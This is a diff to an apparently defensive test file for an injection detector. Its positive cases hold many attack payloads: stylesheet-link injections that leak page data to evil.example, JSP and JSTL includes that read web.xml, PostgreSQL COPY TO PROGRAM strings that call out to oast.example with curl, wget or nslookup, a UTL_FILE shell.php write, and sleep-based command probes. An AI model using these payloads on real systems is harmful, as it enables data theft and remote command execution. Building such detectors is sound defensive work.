@@ -490,11 +490,11 @@ t.test("(fifty-fifth round) a handler of one name, a JSP page's own settings; th
 
 t.test('(fifty-sixth round) a style sheet linked from another origin; JSP\'s XML syntax and JSTL\'s import; the review\'s cases', async (t) => {
   for (const v of [
-    '<link rel=stylesheet href=//evil.example/x.css>',
     '"><link rel="stylesheet" href="https://evil.example/steal.css">',
-    '<LINK REL="stylesheet" HREF="http://xss.cx/xss.css">',
-    '<link href="https://evil.example/a.css" rel="alternate stylesheet">',
-    "<link rel='stylesheet' href='\\\\evil.example\\a.css'>",
+    '\'><link href="https://evil.example/a.css" rel="alternate stylesheet">',
+    "\"><link rel='stylesheet' href='\\\\evil.example\\a.css'>",
+    '</title><link rel=stylesheet href=//evil.example/x.css>',
+    '</textarea><link rel=stylesheet href=//evil.example/x.css>',
     // (review, Chromium 156: each fetched the sheet and its leak)
     '"><link rel="a b c d stylesheet" href=//evil.example/x.css>',
     '"><link rel="x1 stylesheet" href=//evil.example/x.css>',
@@ -503,6 +503,11 @@ t.test('(fifty-sixth round) a style sheet linked from another origin; JSP\'s XML
     `"><link rel="stylesheet" data-x="${'A'.repeat(250)}" href=//evil.example/x.css>`,
     `"><link rel=stylesheet data-x=${'A'.repeat(300)} href=//evil.example/x.css>`,
     'x"><link rel=stylesheet href=//evil.example/x.css>',
+    // (second review, Chromium: each loaded the sheet and leaked a hidden input)
+    '"><link rel=stylesheet media=screen type=text/css referrerpolicy=no-referrer href=http://evil.example/x.css>',
+    '"><link title="<" rel=stylesheet href=//evil.example/x.css>',
+    '"><link rel=stylesheet title="href=//fonts.googleapis.com/" href=http://evil.example/x.css>',
+    'x"     ><link rel=stylesheet href=//evil.example/x.css>',
   ]) t.ok(q(v).includes('xss'), v.slice(0, 100))
   for (const v of [
     '<link rel="stylesheet" href="/static/site.css">',
@@ -514,16 +519,26 @@ t.test('(fifty-sixth round) a style sheet linked from another origin; JSP\'s XML
     // (review) a whole page, an e-mail, a document's sentence: the page's own sheet
     '<!DOCTYPE html><html><head><link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap@5/dist/css/bootstrap.min.css"></head><body>hi</body></html>',
     'Add `<link rel="stylesheet" href="https://unpkg.com/leaflet/dist/leaflet.css">` to your head',
+    // (second review) a CMS's head snippet, a note opening on a sheet; a value opening on the link is told from an injected comment by
+    // nothing, and neither is read (nor the payload lists' bare `<LINK REL="stylesheet" HREF="http://xss.cx/xss.css">`)
+    '<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css">',
+    '<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/katex/dist/katex.min.css">\n# Math notes',
+    '<LINK REL="stylesheet" HREF="http://xss.cx/xss.css">',
   ]) t.same(q(v), [], v.slice(0, 100))
   for (const v of [
     '<jsp:include page="/WEB-INF/web.xml"/>',
     '<jsp:forward page="/WEB-INF/web.xml"/>',
     '<jsp:directive.include file="/WEB-INF/web.xml"/>',
-    '<jsp:include page="../../../../etc/passwd"/>',
     '<jsp:expression>7*7</jsp:expression>',
     '"><jsp:declaration>int x = 1;</jsp:declaration>',
     '<c:import url="/WEB-INF/web.xml"/>',
-    '<c:import var=">" url="/WEB-INF/classes/db.properties"/>',
+    '<c:import var=">" url="/WEB-INF/web.xml"/>',
+    // (second review, Jasper 9: each printed the descriptor or 49)
+    '<jsp:include page="WEB-INF/web.xml"/>',
+    '<jsp:include page="/WEB-INF/web.xml?x=1"/>',
+    '<jsp:include page="/WEB-INF/web.xml;x=1"/>',
+    `<jsp:include flush="true"${' '.repeat(45)}page="/WEB-INF/web.xml"/>`,
+    'F: hello <jsp:expression>7*7</jsp:expression>',
   ]) t.ok(q(v).includes('ssti'), v)
   // (review) a JSP page's own views, beans and imports, a document naming the actions
   for (const v of [
@@ -531,6 +546,10 @@ t.test('(fifty-sixth round) a style sheet linked from another origin; JSP\'s XML
     '<jsp:include page="/WEB-INF/views/header.jsp"/>',
     '<c:import url="/WEB-INF/fragments/nav.jsp"/>',
     '<c:import url="http://example.com/feed.xml" var="feed"/>',
+    // (second review) relative includes, JSTL's XML import
+    '<%@ page contentType="text/html" %>\n<div><jsp:include page="../common/header.jsp" /></div>',
+    '<c:import url="../shared/footer.jsp" />',
+    '<c:import url="/WEB-INF/xml/books.xml" var="booksXml" />\n<x:parse xml="${booksXml}" var="books"/>',
     'Use <jsp:useBean> to instantiate a bean.',
     'The page uses a jsp:include action for its header.',
   ]) t.same(q(v), [], v.slice(0, 100))
@@ -540,9 +559,12 @@ t.test('(fifty-sixth round, tuned on the spent fortieth part\'s misses) a statem
   // (review, MariaDB 10.11: each ran, bare)
   for (const v of ['SELECT-1e1FROM`test`', 'SELECT~1.FROM`test`', 'SELECT\\NFROM`test`', 'SELECT-id-1.FROM`test`', 'SELECT-\\NFROM`t1`', 'SELECT-1e1FROM/**/t1', 'SELECT-1e1FROM#\nt1', 'SELECT-(1)FROM`t1`', "SELECT-'1'FROM`t1`"]) t.ok(q(v).includes('sqli'), v)
   // (review, PostgreSQL 15: each ran its program)
-  for (const v of ["copy (SELECT '') to program 'nslookup c7f3k2.oast.example.net'", "COPY t FROM PROGRAM 'id'", "COPY (SELECT 1) TO PROGRAM U&'curl http://x.oast.example'", "COPY (SELECT 1) TO PROGRAM'curl http://x.oast.example'", "COPY (SELECT 'a;b') TO PROGRAM 'wget http://x.oast.example'", "'; BEGIN f := UTL_FILE.FOPEN('DIR','shell.php','w'); END;--"]) t.ok(q(v).includes('sqli'), v)
-  for (const v of ['sleep 10 && echo vulnerable', 'sleep 5;id', '  sleep 3 || curl http://x.oast.example', 'sleep 10 & echo vulnerable', 'sleep 10\necho vulnerable']) t.ok(q(v).includes('rce'), v)
-  for (const v of ['Press select-1 from the menu', '.select-1.from-left { color: red }', 'e.select!=null&&Array.from(e.select)', 'select~.from {color:red}', 'Copy the installer to program files and run it', "COPY (SELECT * FROM audit_log) TO PROGRAM 'gzip > /archive/audit.csv.gz' CSV HEADER", "UTL_FILE.FOPEN('LOG_DIR','app.log','w')", "v_file := UTL_FILE.FOPEN('REPORT_DIR','report.pl','a');", 'sleep 8h; eat well', 'sleep 10 minutes and then try again', 'Sleep 7.5h | Type: deep | Quality: good', 'sleep 8h | id: 4471 | mood: rested']) t.same(q(v), [], v)
+  for (const v of ["copy (SELECT '') to program 'nslookup c7f3k2.oast.example.net'", "COPY t FROM PROGRAM 'id'", "COPY (SELECT 1) TO PROGRAM U&'bash -c id'", "COPY (SELECT 1) TO PROGRAM'nslookup x.oast.example'", "COPY (SELECT 'a;b') TO PROGRAM 'ping -c 1 x.oast.example'", "'; BEGIN f := UTL_FILE.FOPEN('DIR','shell.php','w'); END;--"]) t.ok(q(v).includes('sqli'), v)
+  for (const v of ['sleep 10 && echo vulnerable', 'sleep 5;id', '  sleep 3 || curl http://x.oast.example']) t.ok(q(v).includes('rce'), v)
+  for (const v of ['Press select-1 from the menu', '.select-1.from-left { color: red }', 'e.select!=null&&Array.from(e.select)', 'select~.from {color:red}', 'Copy the installer to program files and run it', "COPY (SELECT * FROM audit_log) TO PROGRAM 'gzip > /archive/audit.csv.gz' CSV HEADER", "UTL_FILE.FOPEN('LOG_DIR','app.log','w')", "v_file := UTL_FILE.FOPEN('REPORT_DIR','report.pl','a');", 'sleep 8h; eat well', 'sleep 10 minutes and then try again', 'Sleep 7.5h | Type: deep | Quality: good', 'sleep 8h | id: 4471 | mood: rested',
+    // (second review) a diary's hours, a load's fetch, psql's client-side copy, code's and a style's names
+    'Sleep 8h\nCat to the vet at 10', 'Sleep 6h & ping the landlord', 'sleep 30\ncurl -s http://localhost:3000/api/health', "\\copy zipcodes FROM PROGRAM 'curl -sL https://example.com/zip.csv' WITH CSV HEADER", "COPY zipcodes FROM PROGRAM 'curl -sL https://example.com/zip.csv' WITH CSV HEADER",
+    '.select-2.from--open { display:block }', 'e.select!=null&&a1.from(e.select)', "$('#s').select2({}); select2.from"]) t.same(q(v), [], v)
   // (review) a command field's own line and a package's scripts
   t.same(json({ scripts: { 'wait-db': 'sleep 5 && echo "db ready"' } }), [], "a package's scripts")
   t.same(json({ command: 'sleep 30 && echo ready && exec java -jar /app/app.jar' }), [], "a command field's own line")
